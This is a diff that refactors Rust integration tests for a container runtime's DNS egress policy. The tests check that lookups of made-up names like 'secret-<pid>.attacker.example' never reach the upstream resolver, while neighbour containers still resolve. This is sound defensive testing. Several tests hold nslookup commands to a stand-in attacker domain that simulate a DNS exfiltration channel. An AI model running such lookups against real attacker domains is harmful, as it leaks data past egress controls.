@@ -58,25 +58,149 @@ impl Drop for Network {
     }
 }
 
-/// `nslookup NAME` through the container's resolv.conf (127.0.0.11).
-fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> String {
-    let script = format!("timeout 10 nslookup {name} 2>&1; echo NS=$?");
-    let upstream = upstream.to_string();
-    docker(&[
-        "run",
-        "--rm",
-        "--runtime",
-        runtime,
-        "--network",
-        network,
-        "--dns",
-        &upstream,
-        IMAGE,
-        "sh",
-        "-c",
-        &script,
-    ])
-    .combined()
+/// One test's world: the registered runtime, the test's docker network on
+/// [`SUBNET`], [`POLICY`] as the test wrote it and the upstream DNS
+/// responder on the network's gateway. On failure the drop removes the
+/// responder and the network (with its containers); [`DnsWorld::finish`]
+/// also removes the policy and asserts nothing of the network is left.
+struct DnsWorld {
+    rt: String,
+    upstream: Server,
+    net: Network,
+    gw: Ipv4Addr,
+}
+
+impl DnsWorld {
+    /// Creates the network `<prefix>-<pid>`, writes [`POLICY`] as `policy`
+    /// says given the gateway address, and starts the upstream.
+    fn new(prefix: &str, policy: impl FnOnce(Ipv4Addr) -> String) -> DnsWorld {
+        let rt = registered_egress_dns_runtime();
+        let (net, gw) = test_network(&format!("{prefix}-{}", std::process::id()));
+        std::fs::write(POLICY, policy(gw)).unwrap();
+        let upstream = Server::dns(
+            Path::new("/proc/self/ns/net"),
+            SocketAddr::new(gw.into(), 53),
+            ANSWER,
+        );
+        DnsWorld {
+            rt,
+            upstream,
+            net,
+            gw,
+        }
+    }
+
+    /// `docker run --rm` of `sh -c script` under `runtime` on the test's
+    /// network, resolving through the upstream; stdout and stderr.
+    fn run_sh(&self, runtime: &str, script: &str) -> String {
+        let gw = self.gw.to_string();
+        let opts = ["--network", &self.net.0, "--dns", &gw];
+        run_sh(runtime, &opts, script)
+    }
+
+    /// A detached `sleep 300` named `name` on the test's network, with
+    /// `opts` added; its id.
+    fn sleeper(&self, name: &str, opts: &[&str]) -> String {
+        sleeper(name, &[&["--network", &self.net.0], opts].concat())
+    }
+
+    /// A detached `sleep 300` under the registered runtime on the test's
+    /// network, resolving through the upstream; its id.
+    fn moat_sleeper(&self, name: &str) -> String {
+        let gw = self.gw.to_string();
+        self.sleeper(name, &["--runtime", &self.rt, "--dns", &gw])
+    }
+
+    /// A runc neighbour `name` on the test's network with the alias `pg`;
+    /// its address.
+    fn neighbour(&self, name: &str) -> Ipv4Addr {
+        self.sleeper(name, &["--network-alias", "pg"]);
+        let ip = docker(&[
+            "inspect",
+            "--format",
+            "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+            name,
+        ]);
+        ip.stdout
+            .trim()
+            .parse()
+            .unwrap_or_else(|_| panic!("no address for {name}: {}", ip.describe()))
+    }
+
+    /// None of `names` reached the upstream (given a moment to arrive);
+    /// `out` is the containers' output, for the message.
+    fn assert_never_upstream(&self, names: &[&str], out: &str) {
+        std::thread::sleep(Duration::from_millis(300));
+        for name in names {
+            assert!(
+                !self.upstream.asked(name),
+                "{name} reached the upstream under {}:\n{out}",
+                self.rt
+            );
+        }
+    }
+
+    /// Stops the upstream, removes the network and the policy, and asserts
+    /// nothing of the network is left.
+    fn finish(self) {
+        let DnsWorld { upstream, net, .. } = self;
+        let name = net.0.clone();
+        drop(upstream);
+        drop(net);
+        let _ = std::fs::remove_file(POLICY);
+        assert_network_gone(&name);
+    }
+}
+
+/// `docker run --rm --runtime RUNTIME OPTS IMAGE sh -c SCRIPT`: stdout
+/// and stderr.
+fn run_sh(runtime: &str, opts: &[&str], script: &str) -> String {
+    let args = [
+        &["run", "--rm", "--runtime", runtime],
+        opts,
+        &[IMAGE, "sh", "-c", script],
+    ]
+    .concat();
+    docker(&args).combined()
+}
+
+/// `docker run -d --name NAME OPTS IMAGE sleep 300`, which must start; the
+/// container's id.
+fn sleeper(name: &str, opts: &[&str]) -> String {
+    let args = [
+        &["run", "-d", "--name", name],
+        opts,
+        &[IMAGE, "sleep", "300"],
+    ]
+    .concat();
+    let started = docker(&args);
+    assert!(started.ok(), "docker run {name}: {}", started.describe());
+    started.stdout.trim().to_string()
+}
+
+/// A script looking up each of `names` (at most 10 s each) and printing
+/// `NS<n>=<status>` after the n-th lookup's output, counted from 1.
+fn nslookups(names: &[&str]) -> String {
+    names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| format!("timeout 10 nslookup {name} 2>&1; echo NS{}=$?", i + 1))
+        .collect::<Vec<_>>()
+        .join("; ")
+}
+
+/// `out` of [`nslookups`] of a neighbour's name, its alias `pg` and a
+/// made-up name: the first two resolved to `ip`, the made-up one did not
+/// (and the upstream's answer is nowhere).
+fn assert_neighbours_only(out: &str, ip: Ipv4Addr, rt: &str) {
+    let want = format!("Address: {ip}");
+    let answers = out.lines().filter(|l| l.trim() == want).count();
+    assert!(
+        out.contains("NS1=0") && out.contains("NS2=0") && answers >= 2,
+        "the neighbour's name and alias did not resolve to {ip} under {rt}:\n{out}"
+    );
+    assert!(!out.contains("NS3=0"), "the made-up name resolved:\n{out}");
+    assert!(!out.contains(&ANSWER.to_string()), "{out}");
 }
 
 /// T18 (DNS side channel, docker): a made-up name looked up through the
@@ -85,41 +209,29 @@ fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> Strin
 /// nothing of the test is left afterwards.
 #[test]
 fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
-    let rt = registered_egress_dns_runtime();
+    let w = DnsWorld::new("moat-egdns", |_| {
+        format!("[egress]\nallow = [\"{SUBNET}\"]\n")
+    });
     let me = std::process::id();
-    std::fs::write(POLICY, format!("[egress]\nallow = [\"{SUBNET}\"]\n")).unwrap();
-    let (net, gw) = test_network(&format!("moat-egdns-{me}"));
-    let upstream = Server::dns(
-        Path::new("/proc/self/ns/net"),
-        SocketAddr::new(gw.into(), 53),
-        ANSWER,
-    );
 
     let control = format!("control-{me}.attacker.example");
-    let out = lookup("runc", &net.0, gw, &control);
+    let out = w.run_sh("runc", &nslookups(&[&control]));
     assert!(
-        upstream.asked(&control),
+        w.upstream.asked(&control),
         "under runc the upstream never saw {control}: the test cannot show the channel\n{out}"
     );
 
     let secret = format!("secret-{me}.attacker.example");
-    let out = lookup(&rt, &net.0, gw, &secret);
-    assert!(out.contains("NS="), "the container did not run:\n{out}");
+    let out = w.run_sh(&w.rt, &nslookups(&[&secret]));
+    assert!(out.contains("NS1="), "the container did not run:\n{out}");
     assert!(
-        !out.contains("NS=0"),
-        "the lookup succeeded under {rt}:\n{out}"
+        !out.contains("NS1=0"),
+        "the lookup succeeded under {}:\n{out}",
+        w.rt
     );
     assert!(!out.contains(&ANSWER.to_string()), "{out}");
-    std::thread::sleep(Duration::from_millis(300));
-    assert!(
-        !upstream.asked(&secret),
-        "the made-up name reached the upstream under {rt}:\n{out}"
-    );
-
-    drop(upstream);
-    drop(net);
-    let _ = std::fs::remove_file(POLICY);
-    assert_network_gone(&format!("moat-egdns-{me}"));
+    w.assert_never_upstream(&[&secret], &out);
+    w.finish();
 }
 
 /// The runtime registered for these tests, asserted to read [`POLICY`].
@@ -195,87 +307,20 @@ fn assert_network_gone(name: &str) {
 /// engine's resolver, which would send the made-up name on.
 #[test]
 fn docker_container_names_resolve_through_moat_and_made_up_names_do_not_leave() {
-    let rt = registered_egress_dns_runtime();
-    let me = std::process::id();
-    let (net, gw) = test_network(&format!("moat-egnames-{me}"));
-    std::fs::write(
-        POLICY,
+    let w = DnsWorld::new("moat-egnames", |gw| {
         format!(
             "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\n"
-        ),
-    )
-    .unwrap();
-    let upstream = Server::dns(
-        Path::new("/proc/self/ns/net"),
-        SocketAddr::new(gw.into(), 53),
-        ANSWER,
-    );
+        )
+    });
+    let me = std::process::id();
     let db = format!("moat-egdb-{me}");
-    let started = docker(&[
-        "run",
-        "-d",
-        "--name",
-        &db,
-        "--network",
-        &net.0,
-        "--network-alias",
-        "pg",
-        IMAGE,
-        "sleep",
-        "300",
-    ]);
-    assert!(started.ok(), "docker run {db}: {}", started.describe());
-    let ip = docker(&[
-        "inspect",
-        "--format",
-        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
-        &db,
-    ]);
-    let ip: Ipv4Addr = ip
-        .stdout
-        .trim()
-        .parse()
-        .unwrap_or_else(|_| panic!("no address for {db}: {}", ip.describe()));
+    let ip = w.neighbour(&db);
 
     let secret = format!("secret-{me}.attacker.example");
-    let script = format!(
-        "timeout 10 nslookup {db} 2>&1; echo NS1=$?; timeout 10 nslookup pg 2>&1; echo NS2=$?; timeout 10 nslookup {secret} 2>&1; echo NS3=$?"
-    );
-    let out = docker(&[
-        "run",
-        "--rm",
-        "--runtime",
-        &rt,
-        "--network",
-        &net.0,
-        "--dns",
-        &gw.to_string(),
-        IMAGE,
-        "sh",
-        "-c",
-        &script,
-    ])
-    .combined();
-    let want = format!("Address: {ip}");
-    let answers = out.lines().filter(|l| l.trim() == want).count();
-    assert!(
-        out.contains("NS1=0") && out.contains("NS2=0") && answers >= 2,
-        "the neighbour's name and alias did not resolve to {ip} under {rt}:\n{out}"
-    );
-    assert!(!out.contains("NS3=0"), "the made-up name resolved:\n{out}");
-    assert!(!out.contains(&ANSWER.to_string()), "{out}");
-    std::thread::sleep(Duration::from_millis(300));
-    for name in [secret.as_str(), db.as_str(), "pg"] {
-        assert!(
-            !upstream.asked(name),
-            "{name} reached the upstream under {rt}:\n{out}"
-        );
-    }
-
-    drop(upstream);
-    drop(net);
-    let _ = std::fs::remove_file(POLICY);
-    assert_network_gone(&format!("moat-egnames-{me}"));
+    let out = w.run_sh(&w.rt, &nslookups(&[&db, "pg", &secret]));
+    assert_neighbours_only(&out, ip, &w.rt);
+    w.assert_never_upstream(&[&secret, &db, "pg"], &out);
+    w.finish();
 }
 
 /// T18, issue 18 item 3 with docker: a moat container joining another's
@@ -285,82 +330,37 @@ fn docker_container_names_resolve_through_moat_and_made_up_names_do_not_leave() 
 /// X is still served after the joiner is gone.
 #[test]
 fn docker_network_container_pair_shares_the_resolver() {
-    let rt = registered_egress_dns_runtime();
-    let me = std::process::id();
-    let (net, gw) = test_network(&format!("moat-egpair-{me}"));
-    std::fs::write(
-        POLICY,
+    let w = DnsWorld::new("moat-egpair", |gw| {
         format!(
             "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\nprivate_answers = [\"svc.moat.test {ANSWER}/32\"]\n"
-        ),
-    )
-    .unwrap();
-    let upstream = Server::dns(
-        Path::new("/proc/self/ns/net"),
-        SocketAddr::new(gw.into(), 53),
-        ANSWER,
-    );
+        )
+    });
+    let me = std::process::id();
     let x = format!("moat-egx-{me}");
-    let started = docker(&[
-        "run",
-        "-d",
-        "--name",
-        &x,
-        "--runtime",
-        &rt,
-        "--network",
-        &net.0,
-        "--dns",
-        &gw.to_string(),
-        IMAGE,
-        "sleep",
-        "300",
-    ]);
-    assert!(started.ok(), "docker run {x}: {}", started.describe());
+    w.moat_sleeper(&x);
     let secret = format!("secret-{me}.attacker.example");
-    let script = format!(
-        "timeout 10 nslookup svc.moat.test 2>&1; echo NS1=$?; timeout 10 nslookup {secret} 2>&1; echo NS2=$?"
+    let joined = format!("container:{x}");
+    let out = run_sh(
+        &w.rt,
+        &["--network", &joined],
+        &nslookups(&["svc.moat.test", &secret]),
     );
-    let out = docker(&[
-        "run",
-        "--rm",
-        "--runtime",
-        &rt,
-        "--network",
-        &format!("container:{x}"),
-        IMAGE,
-        "sh",
-        "-c",
-        &script,
-    ])
-    .combined();
     let want = format!("Address: {ANSWER}");
     assert!(
         out.contains("NS1=0") && out.lines().any(|l| l.trim() == want),
         "the joiner's allowed name did not resolve:\n{out}"
     );
     assert!(!out.contains("NS2=0"), "the made-up name resolved:\n{out}");
-    std::thread::sleep(Duration::from_millis(300));
-    assert!(upstream.asked("svc.moat.test"), "{out}");
-    assert!(!upstream.asked(&secret), "the made-up name left:\n{out}");
+    w.assert_never_upstream(&[&secret], &out);
+    assert!(w.upstream.asked("svc.moat.test"), "{out}");
     // X is still served after the joiner's delete.
-    let again = docker(&[
-        "exec",
-        &x,
-        "sh",
-        "-c",
-        "timeout 10 nslookup svc.moat.test 2>&1; echo NS=$?",
-    ]);
+    let again = docker(&["exec", &x, "sh", "-c", &nslookups(&["svc.moat.test"])]);
     assert!(
-        again.stdout.contains("NS=0") && again.stdout.lines().any(|l| l.trim() == want),
+        again.stdout.contains("NS1=0") && again.stdout.lines().any(|l| l.trim() == want),
         "{x} lost its resolver: {}",
         again.describe()
     );
-
-    drop(upstream);
-    drop(net);
-    let _ = std::fs::remove_file(POLICY);
-    assert_network_gone(&format!("moat-egpair-{me}"));
+    w.finish();
 }
 
 /// T18, issue 18 item 2 for every docker user: with an address-only
@@ -373,65 +373,16 @@ fn docker_network_container_pair_shares_the_resolver() {
 /// the resolver at all, and nothing of either is left.
 #[test]
 fn address_only_containers_resolve_docker_neighbours_and_nothing_else() {
-    let rt = registered_egress_dns_runtime();
+    let w = DnsWorld::new("moat-egaddr", |_| {
+        format!("[egress]\nallow = [\"{SUBNET}\"]\nconnection_events = false\n")
+    });
     let me = std::process::id();
-    let (net, gw) = test_network(&format!("moat-egaddr-{me}"));
-    std::fs::write(
-        POLICY,
-        format!("[egress]\nallow = [\"{SUBNET}\"]\nconnection_events = false\n"),
-    )
-    .unwrap();
-    let upstream = Server::dns(
-        Path::new("/proc/self/ns/net"),
-        SocketAddr::new(gw.into(), 53),
-        ANSWER,
-    );
     let db = format!("moat-egaddr-db-{me}");
-    let started = docker(&[
-        "run",
-        "-d",
-        "--name",
-        &db,
-        "--network",
-        &net.0,
-        "--network-alias",
-        "pg",
-        IMAGE,
-        "sleep",
-        "300",
-    ]);
-    assert!(started.ok(), "docker run {db}: {}", started.describe());
-    let ip = docker(&[
-        "inspect",
-        "--format",
-        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
-        &db,
-    ]);
-    let ip: Ipv4Addr = ip
-        .stdout
-        .trim()
-        .parse()
-        .unwrap_or_else(|_| panic!("no address for {db}: {}", ip.describe()));
+    let ip = w.neighbour(&db);
 
     // B: on the user-defined network, under moat, the default kind of policy.
     let b = format!("moat-egaddr-b-{me}");
-    let started = docker(&[
-        "run",
-        "-d",
-        "--name",
-        &b,
-        "--runtime",
-        &rt,
-        "--network",
-        &net.0,
-        "--dns",
-        &gw.to_string(),
-        IMAGE,
-        "sleep",
-        "300",
-    ]);
-    assert!(started.ok(), "docker run {b}: {}", started.describe());
-    let b_id = started.stdout.trim().to_string();
+    let b_id = w.moat_sleeper(&b);
     let registration = registration_of(&b_id)
         .unwrap_or_else(|| panic!("{b} is not registered with moat's resolver"));
     assert_eq!(
@@ -445,51 +396,24 @@ fn address_only_containers_resolve_docker_neighbours_and_nothing_else() {
         "{registration}"
     );
     let secret = format!("secret-{me}.attacker.example");
-    let script = format!(
-        "timeout 10 nslookup {db} 2>&1; echo NS1=$?; timeout 10 nslookup pg 2>&1; echo NS2=$?; timeout 10 nslookup {secret} 2>&1; echo NS3=$?"
-    );
+    let script = nslookups(&[&db, "pg", &secret]);
     let out = docker(&["exec", &b, "sh", "-c", &script]).combined();
-    let want = format!("Address: {ip}");
-    let answers = out.lines().filter(|l| l.trim() == want).count();
-    assert!(
-        out.contains("NS1=0") && out.contains("NS2=0") && answers >= 2,
-        "the neighbour's name and alias did not resolve to {ip} under {rt}:\n{out}"
-    );
-    assert!(!out.contains("NS3=0"), "the made-up name resolved:\n{out}");
+    assert_neighbours_only(&out, ip, &w.rt);
     assert!(
         out.contains("REFUSED"),
         "the made-up name was not REFUSED:\n{out}"
     );
-    assert!(!out.contains(&ANSWER.to_string()), "{out}");
 
     // C: on the default bridge: no resolver for it.
     let c = format!("moat-egaddr-c-{me}");
-    let started = docker(&[
-        "run",
-        "-d",
-        "--name",
-        &c,
-        "--runtime",
-        &rt,
-        IMAGE,
-        "sleep",
-        "300",
-    ]);
-    let c_id = started.stdout.trim().to_string();
-    assert!(started.ok(), "docker run {c}: {}", started.describe());
+    let c_id = sleeper(&c, &["--runtime", &w.rt]);
     assert!(
         registration_of(&c_id).is_none(),
         "{c} on the default bridge was registered with moat's resolver"
     );
     let _ = docker(&["rm", "-f", &c]);
 
-    std::thread::sleep(Duration::from_millis(300));
-    for name in [secret.as_str(), db.as_str(), "pg"] {
-        assert!(
-            !upstream.asked(name),
-            "{name} reached the upstream under {rt}:\n{out}"
-        );
-    }
+    w.assert_never_upstream(&[&secret, &db, "pg"], &out);
     let _ = docker(&["rm", "-f", &b]);
     // Its registration goes with its delete.
     let deadline = std::time::Instant::now() + Duration::from_secs(30);
@@ -500,11 +424,7 @@ fn address_only_containers_resolve_docker_neighbours_and_nothing_else() {
         registration_of(&b_id).is_none(),
         "{b}'s registration is left"
     );
-
-    drop(upstream);
-    drop(net);
-    let _ = std::fs::remove_file(POLICY);
-    assert_network_gone(&format!("moat-egaddr-{me}"));
+    w.finish();
 }
 
 /// The resolver registration of moat container `id` under any state root
